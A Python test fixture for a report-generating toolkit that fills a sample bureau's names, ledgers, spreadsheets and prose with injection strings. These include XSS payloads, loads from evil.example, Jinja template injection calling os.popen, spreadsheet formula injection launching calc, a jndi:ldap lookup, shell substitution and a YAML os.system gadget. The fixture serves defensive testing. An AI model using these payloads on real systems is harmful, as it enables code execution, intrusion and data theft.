"""Texts that would act if taken for more than text, and a bureau all of whose files have them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import yaml

from reportkit.visible import unseen_in
from tests.conftest import EXAMPLE, YEAR, copy_workspace
from tests.ledgers.samples import write_csv
from tests.windows import AS_ON_WINDOWS

# 〇 stands for a mark that is another in each: where it can be read, the text around it can.
HTML = (
    "<script>ran()</script>〇",
    "<SCRIPT SRC=https://evil.example/〇.js></SCRIPT>〇",
    "<scr<script>ipt>ran()</scr</script>ipt>〇",
    "<img src=x onerror=ran()>〇",
    "<img src='https://evil.example/〇.png'>〇",
    "<img srcset='https://evil.example/〇.png 2x' src=data:,>〇",
    "<body onload=ran()>〇</body>",
    "<details open ontoggle=ran()>〇</details>",
    "<input autofocus onfocus=ran() value=〇>〇",
    "<marquee onstart=ran()>〇</marquee>",
    "<video autoplay src=https://evil.example/〇.mp4 onerror=ran()></video>〇",
    "<iframe src='javascript:parent.ran()'></iframe>〇",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>〇",
    "<object data='data:text/html,<script>ran()</script>'></object>〇",
    "<embed src='https://evil.example/〇.swf'>〇",
    "<base href='https://evil.example/〇/'>〇",
    "<link rel=stylesheet href=https://evil.example/〇.css>〇",
    "<meta http-equiv=refresh content='0;url=https://evil.example/〇'>〇",
    "<meta http-equiv=set-cookie content='a=〇'>〇",
    "<form action=https://evil.example/〇><button autofocus>〇</button></form>",
    "<button formaction=javascript:ran()>〇</button>",
    "<template><p>〇</p></template>〇",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>〇",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table>〇",
    "</style></title></textarea></script><img src=x onerror=ran()>〇",
    "\"><img src=x onerror=ran()>〇",
    "' onmouseover='ran()' x='〇",
    "--><img src=x onerror=ran()><!-- 〇",
    "<!--[if IE]><img src=x onerror=ran()>〇<![endif]-->〇",
    "]]><img src=x onerror=ran()>〇",
    "&lt;script&gt;ran()&lt;/script&gt;〇",
    "&#60;img src=x onerror=ran()&#62;〇",
    "<a href='javascript:ran()'>〇</a>",
    "<a href=' \tjava\tscript:ran()'>〇</a>",
    "<a href='data:text/html,<script>opener.ran()</script>'>〇</a>",
    "<a href='//evil.example/〇' ping='https://evil.example/〇'>〇</a>",
    "<a href='file:///etc/passwd'>〇</a>",
    "<svg/onload=ran()>〇",
    "<img src=x:x onerror=ran()//〇",
    "<img/src='x'/onerror=ran()>〇",
    "<img src=x\nonerror\n=ran()>〇",
    "<img src=`x` onerror=ran()>〇",
    "<<script>ran()//<</script>〇",
    "<script\x0c>ran()</script>〇",
    "<script/〇>ran()</script/>〇",
    "<scrİpt>ran()</scrİpt>〇",
    "＜script＞ran()＜/script＞〇",
    "<plaintext>〇",
    "<xmp>〇",
    "<listing>〇",
    "<textarea>〇",
    "<select><option>〇",
    "<title>〇",
    "<noembed><img src=x onerror=ran()></noembed>〇",
    "<noframes>〇</noframes>〇",
    "<frameset onload=ran()><frame src=https://evil.example/〇></frameset>〇",
    "<iframe src='https://evil.example/〇'></iframe>〇",
    "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;' sandbox>〇</iframe>",
    "<portal src='https://evil.example/〇'></portal>〇",
    "<fencedframe src='https://evil.example/〇'></fencedframe>〇",
    "<dialog open>〇<form method=dialog><button>〇</button></form></dialog>",
    "<dialog>〇</dialog>",
    "<p popover id=p>〇</p><button popovertarget=p>〇</button>",
    "<details><summary>标题</summary>〇</details>",
    "<slot name=x>〇</slot>",
    "<custom-element onclick=ran()>〇</custom-element>",
    "<div><template shadowrootmode=open><script>ran()</script></template>〇</div>",
    "<a href='jAvAsCrIpT:ran()'>〇</a>",
    "<a href='&#106;avascript:ran()'>〇</a>",
    "<a href='javascript&colon;ran()'>〇</a>",
    "<a href='vbscript:ran()'>〇</a>",
    "<a href='blob:https://evil.example/〇'>〇</a>",
    "<a href='\\\\evil.example\\〇'>〇</a>",
    "<a href='../../../../etc/passwd'>〇</a>",
    "<a href='https://evil.example/〇' target=_top download>〇</a>",
    "<a href='https://evil.example/〇' style='position:fixed;inset:0'>〇</a>",
    "<area href=javascript:ran()>〇",
    "<map name=m><area shape=default href='https://evil.example/〇'></map><img usemap='#m'>〇",
    "<audio autoplay src=https://evil.example/〇.mp3></audio>〇",
    "<video poster=https://evil.example/〇.png></video>〇",
    "<picture><source srcset=https://evil.example/〇.webp><img src=data:,></picture>〇",
    "<input type=image src=https://evil.example/〇.png>〇",
    "<input type=hidden value=〇>〇",
    "<body background=https://evil.example/〇.png>〇",
    "<table background=https://evil.example/〇.png><tr><td>〇</td></tr></table>",
    "<link rel=prefetch href=https://evil.example/〇>〇",
    "<link rel=dns-prefetch href=//evil.example>〇",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">〇",
    "<meta name=referrer content=unsafe-url>〇",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/〇\"]}]}</script>〇",
    "<script type=module>import 'https://evil.example/〇.js'</script>〇",
    "<script type=application/json>{\"a\":\"〇\"}</script>〇",
    "<style onload=ran()></style>〇",
    "<object type=text/x-scriptlet data=https://evil.example/〇></object>〇",
    "<applet code=〇></applet>〇",
    "<bgsound src=https://evil.example/〇.mid>〇",
    "<isindex action=javascript:ran() type=image>〇",
    "<keygen autofocus onfocus=ran()>〇",
    "<base target=_blank>〇",
    "<?xml-stylesheet href='https://evil.example/〇.xsl'?>〇",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>〇",
    "<![CDATA[<script>ran()</script>]]>〇",
    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;〇",
    "&nbsp;&lrm;&rlm;&#8238;〇",
    "&#x1b;[2J&#0;〇",
    "<p id=report onclick=ran()>〇</p>",
    "<p id=__proto__ name=constructor>〇</p>",
    "<p contenteditable autofocus onfocus=ran()>〇</p>",
    "<p tabindex=1 accesskey=x>〇</p>",
    "<p lang=x dir=rtl>〇</p>",
    "<bdo dir=rtl>〇</bdo>",
    "<ruby>〇<rt>〇</rt></ruby>",
    "<font size=1 color=white>〇</font>",
    "<blink>〇</blink>",
    "<q cite=https://evil.example/〇>〇</q>",
    "<del cite=javascript:ran()>〇</del>",
)  # fmt: skip
SCRIPT = (
    "'-ran()-'〇",
    '";ran();//〇',
    "`${ran()}`〇",
    "</script><script>ran()</script>〇",
    "\\u003cscript\\u003eran()〇",
    "javascript:ran()//〇",
    '\\"};ran();{\\"〇',
    "</ScRiPt ><ScRiPt >ran()</ScRiPt >〇",
    "\u2028ran()\u2029〇",
    "*/ran()/*〇",
    "<!--<script>〇",
    "__proto__〇",
    "constructor.constructor('ran()')()〇",
    '{"application/javascript": "ran()"}〇',
)
CSS = (
    "<style>*{display:none}</style>〇",
    "<style>@import 'https://evil.example/〇.css';</style>〇",
    "<p style='background:url(https://evil.example/〇)'>〇</p>",
    "<p style='display:none'>〇</p>",
    "<p hidden>〇</p>",
    "<p style='position:fixed;inset:0;background:#fff'>〇</p>",
    "<span style='font-size:0'>〇</span>",
    "<span style='color:#fff'>〇</span>",
    "<span style='opacity:0;visibility:hidden'>〇</span>",
    "<p class='watermark official draft'>〇</p>",
    "<p style='text-indent:-9999px'>〇</p>",
    "<p style='transform:scale(0)'>〇</p>",
    "<p style='clip-path:inset(100%)'>〇</p>",
    "<p style='width:0;height:0;overflow:hidden'>〇</p>",
    "<p style='filter:opacity(0)'>〇</p>",
    "<p style='margin-left:-99em'>〇</p>",
    "<p style='line-height:0;color:transparent'>〇</p>",
    "<p style='text-align:center;behavior:url(https://evil.example/〇.htc)'>〇</p>",
    "<p style='-moz-binding:url(https://evil.example/〇.xml)'>〇</p>",
    "<p style='width:expression(ran())'>〇</p>",
    "<p style='content:\"〇\"'>〇</p>",
    "<p style='color:var(--x);--x:url(https://evil.example/〇)'>〇</p>",
    "</style><style>.draft,.watermark{display:none}</style>〇",
    "<p class='working told-apart numbers screen'>〇</p>",
    "}*{display:none}/*〇",
)
SVG = (
    "<svg onload=ran()><text y=9>〇</text></svg>",
    "<svg><script>ran()</script></svg>〇",
    "<svg><a xlink:href='javascript:ran()'><text y=9>〇</text></a></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>〇",
    "<svg><use href='https://evil.example/〇.svg#a'/></svg>〇",
    "<svg><foreignObject><body onload=ran()>〇</body></foreignObject></svg>",
    "<svg><image href='https://evil.example/〇.png'/></svg>〇",
    "<svg><style>*{display:none}</style><text y=9>〇</text></svg>",
    "<svg><style>@import 'https://evil.example/〇.css'</style></svg>〇",
    "<svg><set attributeName=href to=javascript:ran()><text y=9>〇</text></svg>",
    "<svg><filter id=f><feImage href='https://evil.example/〇.png'/></filter></svg>〇",
    "<svg><text y=9 fill=none>〇</text></svg>",
    "<svg><text y=9 fill-opacity=0>〇</text></svg>",
    "<svg><desc><script>ran()</script></desc></svg>〇",
    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:ran()'>〇</a></svg>",
    "<svg><p>〇</p></svg>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>\">〇",
    "<math href='javascript:ran()'><mi>〇</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()><mi>〇</mi></maction></math>",
    "<math><annotation-xml encoding='text/html'><script>ran()</script></annotation-xml></math>〇",
    "<math><mstyle mathcolor=white mathsize=0><mi>〇</mi></mstyle></math>",
)
TYPST = (
    "#read(\"/etc/passwd\")〇",
    "#link(\"https://evil.example/〇\")[〇]",
    "#hide[〇] $x$ @label <label> \\",
    "\"]) #pdf.attach(\"/etc/passwd\")〇",
    "#import \"@preview/cetz:0.3.0\"〇",
    "#eval(\"1\")〇",
    "#sys.inputs〇",
    "#show: none\n〇",
    "#set text(fill: white)\n〇",
    "#place(hide[〇])",
    "*〇* _〇_ `〇` $〇$ = 〇",
    "// 〇",
    "/* 〇",
    "\\u{202e}〇 ~ --- -? @〇 <〇>",
    "]]]}}})))〇",
    "\\\"; #panic(\"〇\")",
    "#while true {}〇",
    "#image(\"/etc/passwd\")〇",
    "#plugin(\"https://evil.example/〇.wasm\")",
)  # fmt: skip
MARKDOWN = (
    "[〇](javascript:ran())",
    "![〇](https://evil.example/〇.png)",
    "[〇]: javascript:ran()",
    "```{=html}\n<script>ran()</script>〇\n```",
    "$$\\href{javascript:ran()}{〇}$$",
    "<javascript:ran()>〇",
    "[〇](data:text/html,<script>ran()</script>)",
    "[〇](https://evil.example/〇 \"' onmouseover='ran()\")",
    '![〇" onerror="ran()](data:image/png;base64,x)',
    "![〇](attachment:../../../etc/passwd)",
    "[〇][x]\n\n[x]: javascript:ran()",
    "`<script>ran()</script>`〇",
    "    <script>ran()</script>〇",
    "```html\n<script>ran()</script>\n〇\n```",
    "| 〇 | <script>ran()</script> |\n|---|---|\n| 〇 | 1 |",
    "# <script>ran()</script>〇",
    "> <img src=x onerror=ran()>〇",
    "1. <img src=x onerror=ran()>〇",
    "\\(\\unicode{x202e}〇\\)",
    "$\\require{html}\\href{javascript:ran()}{〇}$",
    "~~〇~~ ==〇== ^〇^",
    "[^〇]: <script>ran()</script>",
    "<div markdown=1>**〇**</div>",
)
JINJA = (
    "{{ 7 * 7 }}〇",
    "{{ ''.__class__.__mro__ }}〇",
    "{% for x in [1] %}〇{% endfor %}",
    "{# 〇 #}〇",
    "{{ config }}〇",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}〇",
    "{%- raw -%}〇{%- endraw -%}",
    "{% include '/etc/passwd' %}〇",
    "{{ '〇'|safe }}",
    "{{ [].__class__.__base__.__subclasses__() }}〇",
    "{{〇",
    "〇}}",
)
FORMULAS = (
    "=HYPERLINK(\"https://evil.example/〇\",\"〇\")",
    "=cmd|' /C calc'!A0〇",
    "@SUM(1+1)*cmd|' /C calc'!A0〇",
    "+1-1〇",
    "-2+3+cmd|' /C calc'!A0〇",
    "\t=1+1〇",
    "=IMPORTXML(\"https://evil.example/〇\",\"//a\")",
    "=WEBSERVICE(\"https://evil.example/〇\")",
    "=INDIRECT(\"A1\")〇",
    "{=SUM(1)}〇",
    "＝HYPERLINK(\"https://evil.example/〇\")",
    "'=1+1〇",
    "|calc!A0〇",
    "#REF!〇",
    "\n=1+1〇",
    ";=1+1;〇",
)  # fmt: skip
CHARACTERS = (
    "\u202e〇\u202c 100",
    "\u2066\u2067〇\u2069",
    "a\u200b\u2060\ufeff〇",
    "〇\U000e0041\U000e0042",
    "〇\u0000b",
    "\x1b]0;〇\x07\x1b[2J\x1b[31m〇",
    "\x9b31m〇\r\n::error::〇",
    "\u061c〇\u200e\u200f",
    "〇\u2028〇\u2029〇",
    "\ufff9〇\ufffa〇\ufffb",
    "〇\ufffe\uffff",
    "〇\x7f\x85\x9d",
    "\x1b]8;;https://evil.example/〇\x1b\\〇\x1b]8;;\x1b\\",
    "\x1b[?1049h\x1b[8m〇",
    "\x1bP+q〇\x1b\\",
    "〇\b\b\b\b\b100",
    "〇\r100",
    "〇\x0b\x0c\x1c\x1d\x1e\x1f",
    "〇" + "\u0301" * 500,
    "\u0301〇\u20dd\u20e0",
    "〇\u3164\uffa0\u115f\u1160\u17b4",
    "〇\u00ad\u034f\u180e",
    "〇\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "𰻝𪚥〇",
    "ﷺ" * 50 + "〇",
    "〇" + "é" * 5000,
    "〇" + "W" * 20_000,
    "〇" + "汉" * 5000,
    "〇" + "1" * 5000,
    "ſcript〇 K ﬁ",
    "〇%s%s%n%x{0}{}${jndi:ldap://evil.example/〇}",
    "$(id)`id`|id;id&&id>〇",
    "..\\..\\〇/../../〇",
    "con.〇",
    "-rf --〇",
    "~〇*?[〇]",
    "true〇: !!python/object/apply:os.system [id]",
)
KINDS = (HTML, SCRIPT, CSS, SVG, TYPST, MARKDOWN, JINJA, FORMULAS, CHARACTERS)
MARKS = [f"记{number:03d}号" for number, _ in enumerate(text for kind in KINDS for text in kind)]
ALL = [
    text.replace("〇", mark)
    for text, mark in zip((text for kind in KINDS for text in kind), MARKS, strict=True)
]
# In a narrative they are its own language, and headings of no section.
NO_PROSE = {*JINJA, *(text for text in MARKDOWN if text.startswith("#"))}
ADDRESS = "evil.example"
LONGEST_NAME = 200  # characters that the name of a bureau may have


def _short_of(lines: list[str]) -> str:
    """Return a name as long as one may be, of the shortest of the lines of each kind."""
    name = "局"
    for line in sorted(_one_line(lines), key=len):
        if not unseen_in(line) and len(name) + len(line) <= LONGEST_NAME:
            name += line
    return name


def hostile_workspace(folder: Path) -> Path:
    """Write a bureau that attacks by parameters, ledgers, prose, notes, rules, words and names."""
    copy_workspace(folder)
    data = folder / "data" / EXAMPLE / YEAR
    lines = [text.replace("\0", "") for text in ALL]
    rules = folder / "rules" / "own.yaml"
    rules.parent.mkdir()
    rules.write_text(yaml.safe_dump([*_rules(lines)], allow_unicode=True), "utf-8")
    params = folder / "params" / f"{EXAMPLE}-{YEAR}.yaml"
    settings = yaml.safe_load(params.read_text("utf-8"))
    settings |= {"bureau_name": _short_of(lines), "rules": "rules/own.yaml"}
    params.write_text(yaml.safe_dump(settings, allow_unicode=True), "utf-8")
    (data / "notes.md").write_text("\n\n".join(ALL), "utf-8")
    prose = [
        t
        for t, raw in zip(lines, (x for k in KINDS for x in k), strict=True)
        if raw not in NO_PROSE
    ]
    narrative = (data / "narrative.md").read_text("utf-8")
    heading = narrative.index("# 五、")
    said = "\n\n".join(prose).translate(str.maketrans("{}", "（）"))
    (data / "narrative.md").write_text(
        f"{narrative[:heading]}{said}\n\n{narrative[heading:]}", "utf-8"
    )
    _ledgers(data)
    words = {
        "主动公开信息发布台账": {"words": {"发布渠道": dict.fromkeys(_one_line(lines), "其他")}}
    }
    (data.parent / "mapping.yaml").write_text(yaml.safe_dump(words, allow_unicode=True), "utf-8")
    return folder


def _one_line(texts: list[str]) -> list[str]:
    return [" ".join(text.split()) for text in texts if text.isprintable() and text.strip()]


def _ledgers(data: Path) -> None:
    texts = [
        re.sub("[\0-\x08\x0b-\x1f\x7f-\x9f]", "", text) for text in ALL
    ]  # no table may have them
    known = {*_one_line(texts)}
    published = [[text, "2022-03-01", text if text in known else "其他", text] for text in texts]
    write_csv(data / "publications.csv", [["标题", "发布日期", "发布渠道", "栏目"], *published])
    decided = [[text, "行政处罚", "2022-02-01", text] for text in texts]
    write_csv(
        data / "decisions.csv", [["决定文书号", "决定类别", "决定日期", "是否公开"], *decided]
    )
    head = ["案号", "案件类别", "受理日期", "审结日期", "审理结果", *texts]
    write_csv(
        data / "cases.csv", [head, ["1", "行政复议", "2022-01-04", "2022-02-04", "维持", *texts]]
    )
    for text in ALL:
        # One of these words would make of it a table of figures.
        name = re.sub("summary|汇总", "", text.replace("\0", "").replace("/", "／"))[:60]
        if AS_ON_WINDOWS:
            name = re.sub(r'[<>:"|?*\\\x01-\x1f]', "＿", name)
        write_csv(data / f"{name}.csv", [["登记编号", "x"], ["1", "2"]])
    book = openpyxl.Workbook()
    for number, text in enumerate(ALL):
        title = "".join(c for c in text if c not in "[]:*?/\\" and c.isprintable())[:24]
        sheet = book.create_sheet(f"{number}{title}")
        sheet["A1"] = "登记编号"
        sheet["A2"] = "".join(c for c in text if c.isprintable())
    book.save(data / "other.xlsx")


def _rules(lines: list[str]) -> Iterator[dict[str, object]]:
    texts = iter(lines)
    for number in range(len(lines) // 6 + 1):
        said = [next(texts, "完") for _ in range(6)]
        yield {
            "id": f"OWN-{number}",
            "title": said[0],
            "explanation": said[1],
            "citation": said[2],
            "severity": "warning",
            "places": ["t2.penalties"],
            "left": ["t2.{place}.decisions"],
            "relation": "<=",
            "right": [],
            "left_text": said[3],
            "right_text": said[4],
            "suggestion": said[5],
        }
